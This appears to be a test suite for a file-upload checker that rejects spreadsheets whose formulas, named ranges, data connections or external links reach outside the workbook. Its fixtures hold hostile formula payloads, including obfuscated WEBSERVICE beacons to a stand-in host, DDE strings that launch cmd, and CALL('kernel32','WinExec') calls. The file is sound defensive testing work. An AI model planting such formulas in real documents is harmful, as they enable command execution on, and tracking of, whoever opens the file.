import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ooxmlFile } from '../../../test/helpers/office-files.js';
import { formulaReachesOutside } from '../media/office-documents.js';
import { checkUpload } from './upload-check.js';

const MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const REL_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A worksheet as Excel writes it, with `cell` (the XML inside `<c r="A1">`) as its only cell. */
const sheetWith = (cell: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet ${MAIN_NS} ${REL_NS}><dimension ref="A1"/><sheetData><row r="1" spans="1:1"><c r="A1" t="str">${cell}<v>0</v></c></row></sheetData><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>`;
const xlsxWithSheet = (cell: string, extra: Record<string, string> = {}) => ooxmlFile('xlsx', { 'xl/worksheets/sheet1.xml': sheetWith(cell), ...extra });

const outcome = async (bytes: Buffer) => {
  const check = await checkUpload(bytes, 'figures.xlsx');
  return check.ok ? 'accepted' : check.problem;
};

describe('spreadsheet formulas that reach outside', () => {
  it('refuses a fetching formula however the XML writes it', async () => {
    const cases: Array<[string, string]> = [
      ['in a CDATA section', '<f><![CDATA[_xlfn.WEBSERVICE("https://tracker.example/?id=1")]]></f>'],
      ['split across CDATA sections', '<f><![CDATA[WEB]]><![CDATA[SERVICE("https://tracker.example/")]]></f>'],
      ['with a character reference', '<f>_xlfn.&#87;EBSERVICE("https://tracker.example/")</f>'],
      ['every letter a reference', `<f>${[...'WEBSERVICE'].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')}("https://tracker.example/")</f>`],
      ['in lower case', '<f>webservice("https://tracker.example/")</f>'],
      ['with both prefixes', '<f>_xlfn._xlws.WEBSERVICE("https://tracker.example/")</f>'],
      ['FILTERXML over it', '<f>_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://tracker.example/feed"),"//title")</f>'],
      ['a picture from an address', '<f>_xlfn.IMAGE("https://tracker.example/pixel.png")</f>'],
      ['a real-time data server', '<f>RTD("tracker.server",,"topic")</f>'],
      ['a DDE reference', "<f>cmd|'/c calc'!A0</f>"],
      ['a DDE reference with a quoted program', "<f>'cmd'|' /c calc'!'A0'</f>"],
      ['a DDE reference with a reference for its bar', "<f>cmd&#124;'/c calc'!A0</f>"],
      ['a library function', '<f>CALL("kernel32","WinExec","JCJ","calc",1)</f>'],
      ['another workbook by number', '<f>[1]Sheet1!A1</f>'],
      ['another workbook by its path', "<f>'C:\\Users\\sokha\\[budget.xlsx]Sheet1'!A1</f>"],
      ['another workbook on a share', "<f>SUM('\\\\server\\share\\budget.xlsx'!Total)</f>"],
      ['a comment inside the formula', '<f>WEB<!-- -->SERVICE("https://tracker.example/")</f>'],
    ];
    for (const [what, cell] of cases) assert.equal(await outcome(xlsxWithSheet(cell)), 'activeContent', what);
  });

  it('refuses functions that send cells to an online service or read an outside file or server', async () => {
    const calls = [
      'STOCKHISTORY("MSFT",TODAY())',
      'IMPORTTEXT("https://tracker.example/a.csv")',
      'IMPORTCSV("https://tracker.example/a.csv")',
      'TRANSLATE(A1,"en","km")',
      'DETECTLANGUAGE(A1)',
      'COPILOT("Summarise",A1:A9)',
      'PY(0,1,"import urllib")',
      'CUBEVALUE("Sales","[Measures].[Total]")',
      'CUBEMEMBER("Sales","[Time].[2024]")',
      'CUBESET("Sales","[Product].children")',
      'CUBEMEMBERPROPERTY("Sales","[Store].[Phnom Penh]","Size")',
      'CUBERANKEDMEMBER("Sales",A1,1)',
      'CUBESETCOUNT(A1)',
      'CUBEKPIMEMBER("Sales","Growth",1)',
    ];
    for (const call of calls) {
      for (const written of [call, `_xlfn.${call}`, `_xlfn._xlws.${call}`, call.toLowerCase()]) {
        assert.equal(await outcome(xlsxWithSheet(`<f>${written.replace(/&/g, '&amp;')}</f>`)), 'activeContent', written);
      }
    }
    assert.equal(formulaReachesOutside('_xlfn.STOCKHISTORY("MSFT",TODAY())'), true);
    assert.equal(formulaReachesOutside('_xlfn._xlws.py (0,1,"x")'), true, 'a space before the parenthesis');
    assert.equal(await outcome(xlsxWithSheet('<f>SUM(COPY1,TYPE(A1))+"PY(" &amp; "CUBEVALUE("</f>')), 'accepted', 'the names inside other names and strings');
  });

  it('refuses them in named formulas, conditions, validations and table columns', async () => {
    const workbook = `<workbook ${MAIN_NS} ${REL_NS}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="feed"><![CDATA[_xlfn.WEBSERVICE("https://tracker.example/")]]></definedName></definedNames></workbook>`;
    assert.equal(await outcome(ooxmlFile('xlsx', { 'xl/workbook.xml': workbook })), 'activeContent', 'a named formula');
    const rule = `<worksheet ${MAIN_NS}><sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(RTD("tracker",,"x"))&gt;0</formula></cfRule></conditionalFormatting></worksheet>`;
    assert.equal(await outcome(ooxmlFile('xlsx', { 'xl/worksheets/sheet1.xml': rule })), 'activeContent', 'a condition');
    const validation = `<worksheet ${MAIN_NS}><sheetData/><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>ISNUMBER(&#x57;EBSERVICE("https://tracker.example/"))</formula1></dataValidation></dataValidations></worksheet>`;
    assert.equal(await outcome(ooxmlFile('xlsx', { 'xl/worksheets/sheet1.xml': validation })), 'activeContent', 'a validation');
    const table = `<table ${MAIN_NS} id="1" name="Table1" displayName="Table1" ref="A1:B2"><tableColumns count="2"><tableColumn id="1" name="Id"/><tableColumn id="2" name="Feed"><calculatedColumnFormula>_xlfn.WEBSERVICE("https://tracker.example/?"&amp;Table1[[#This Row],[Id]])</calculatedColumnFormula></tableColumn></tableColumns></table>`;
    assert.equal(await outcome(ooxmlFile('xlsx', { 'xl/tables/table1.xml': table })), 'activeContent', 'a table column');
  });

  it('refuses an external link part even when its relationship does not say it is external', async () => {
    const link = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink ${MAIN_NS} ${REL_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`;
    const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELATIONSHIPS}/externalLinkPath" Target="budget.xlsx"/></Relationships>`;
    const bytes = xlsxWithSheet('<f>[1]Sheet1!A1</f>', { 'xl/externalLinks/externalLink1.xml': link, 'xl/externalLinks/_rels/externalLink1.xml.rels': rels });
    assert.equal(await outcome(bytes), 'activeContent');
    const ole = `<externalLink ${MAIN_NS} ${REL_NS}><oleLink r:id="rId1" progId="Package"><oleItems><oleItem name="x" advise="1"/></oleItems></oleLink></externalLink>`;
    assert.equal(await outcome(ooxmlFile('xlsx', { 'xl/externalLinks/externalLink1.xml': ole })), 'activeContent', 'an OLE link');
  });

  it('refuses a data connection to an outside source, and takes the workbook\'s own Data Model', async () => {
    const connections = (inside: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<connections ${MAIN_NS}>${inside}</connections>`;
    const withConnection = (inside: string, name = 'xl/connections.xml') => ooxmlFile('xlsx', { [name]: connections(inside) });
    const refused: Array<[string, string]> = [
      ['a web query', '<connection id="1" name="Prices" type="4" refreshedVersion="8" refreshOnLoad="1"><webPr sourceData="1" url="https://tracker.example/prices.html" htmlTables="1"/></connection>'],
      ['an ODC file', '<connection id="1" odcFile="\\\\server\\share\\sales.odc" name="Sales" type="5"><dbPr connection="Provider=SQLOLEDB.1;Data Source=server" command="Sales" commandType="3"/></connection>'],
      ['an ODBC source', '<connection id="1" name="Cases" type="1"><dbPr connection="DSN=cases;SERVER=10.0.0.2" command="SELECT * FROM cases"/></connection>'],
      ['Power Query', '<connection id="1" keepAlive="1" name="Query - Feed" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Feed;Extended Properties=&quot;&quot;" command="SELECT * FROM [Feed]"/></connection>'],
      ['a text import', '<connection id="1" name="a" type="6"><textPr sourceFile="C:\\Users\\sokha\\a.csv"/></connection>'],
      ['a prefixed connection string in references', '<x:connection xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="a" type="5"><x:dbPr connection="&#80;rovider=SQLOLEDB;Data Source=$Workbook$"/></x:connection>'],
      ['a connection that does not parse', '<connection id="1" name="a"><dbPr connection="Data Source=$Workbook$"></connection>'],
    ];
    for (const [what, inside] of refused) assert.equal(await outcome(withConnection(inside)), 'activeContent', what);
    assert.equal(await outcome(withConnection(refused[0]![1], 'xl/data.bin')), 'activeContent', 'whatever the part is called');
    const dataModel = '<connection id="1" keepAlive="1" name="ThisWorkbookDataModel" description="Data Model" type="5" refreshedVersion="8" background="1"><dbPr connection="Data Source=$Workbook$;Location=ThisWorkbookDataModel;" command="Model" commandType="1"/><olapPr sendLocale="1" rowDrillCount="1000"/></connection>';
    const queryTable = `<queryTable ${MAIN_NS} name="Model" connectionId="1" autoFormatId="16" applyNumberFormats="0"><queryTableRefresh nextId="2"><queryTableFields count="1"><queryTableField id="1" name="Amount"/></queryTableFields></queryTableRefresh></queryTable>`;
    const kept = ooxmlFile('xlsx', { 'xl/connections.xml': connections(dataModel), 'xl/queryTables/queryTable1.xml': queryTable });
    assert.equal(await outcome(kept), 'accepted');
  });

  it('takes ordinary formulas, hyperlinks, table columns and strings that only mention a function', async () => {
    const kept = [
      '<f>SUM(B1:B9)</f>',
      '<f>HYPERLINK("https://example.org/report","Report")</f>',
      '<f>"WEBSERVICE(" &amp; "a|b [1]"</f>',
      "<f>'Land cases 2024'!B2*2</f>",
      "<f>SUM('Sheet 1:Sheet 3'!A1)</f>",
      '<f>SUM(Table1[Amount])</f>',
      '<f>Table1[[#This Row],[2024]]*2</f>',
      '<f><![CDATA[IF(A2>0,"yes","no")]]></f>',
      '<f>_xlfn.XLOOKUP(A1,B1:B9,C1:C9)</f>',
    ];
    for (const cell of kept) assert.equal(await outcome(xlsxWithSheet(cell)), 'accepted', cell);
  });

  it('takes structured table references, whose quote escapes the next character', async () => {
    const kept = [
      "<f>SUM(Table1[Item '#])</f>",
      '<f>[@Qty]*[@[Price/Unit]]</f>',
      "<f>Table1[[#This Row],[Cost ']']]</f>",
      '<f>[#This Row]</f>',
      '<f>Table1[[#Headers],[Amount]]</f>',
      '<f>Table1[[#Totals],[Amount]]</f>',
      '<f>SUM(Table1[[#Data],[Km/h]:[Price.Unit]])</f>',
    ];
    for (const cell of kept) assert.equal(await outcome(xlsxWithSheet(cell)), 'accepted', cell);
    // An equation's fraction in Word is an `m:f` too; its text is in runs inside it, not the fraction's own.
    const math = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><w:body><w:p><m:oMath><m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num><m:den><m:r><m:t>[1]</m:t></m:r></m:den></m:f></m:oMath></w:p></w:body></w:document>';
    const check = await checkUpload(ooxmlFile('docx', { 'word/document.xml': math }), 'equation.docx');
    assert.ok(check.ok, JSON.stringify(check));
  });

  it('reads a formula as Excel does: strings aside, any prefix, any case', () => {
    assert.equal(formulaReachesOutside('_xlfn._xludf.webService(A1)'), true);
    assert.equal(formulaReachesOutside('REGISTER.ID("user32","MessageBoxA")'), true);
    assert.equal(formulaReachesOutside('CONCAT("RTD(", A1)'), false);
    assert.equal(formulaReachesOutside('[0]!Total'), false, 'the workbook itself');
    assert.equal(formulaReachesOutside('"unterminated & WEBSERVICE(A1)'), true, 'what follows an unterminated string cannot be read');
    assert.equal(formulaReachesOutside("Table1[Item '#]&WEBSERVICE(A1)"), true, 'an escaped character does not hide what follows the table reference');
    assert.equal(formulaReachesOutside("[@[Price/Unit]]*'C:\\[b.xlsx]S'!A1"), true, 'a path after a table reference');
    assert.equal(formulaReachesOutside('[@[x]]+[book.xlsx]Sheet1!A1'), true, 'a workbook named after a table reference');
    assert.equal(formulaReachesOutside("[book'.xlsx]Sheet1!A1"), true, 'an escaped dot still names a file');
  });
});
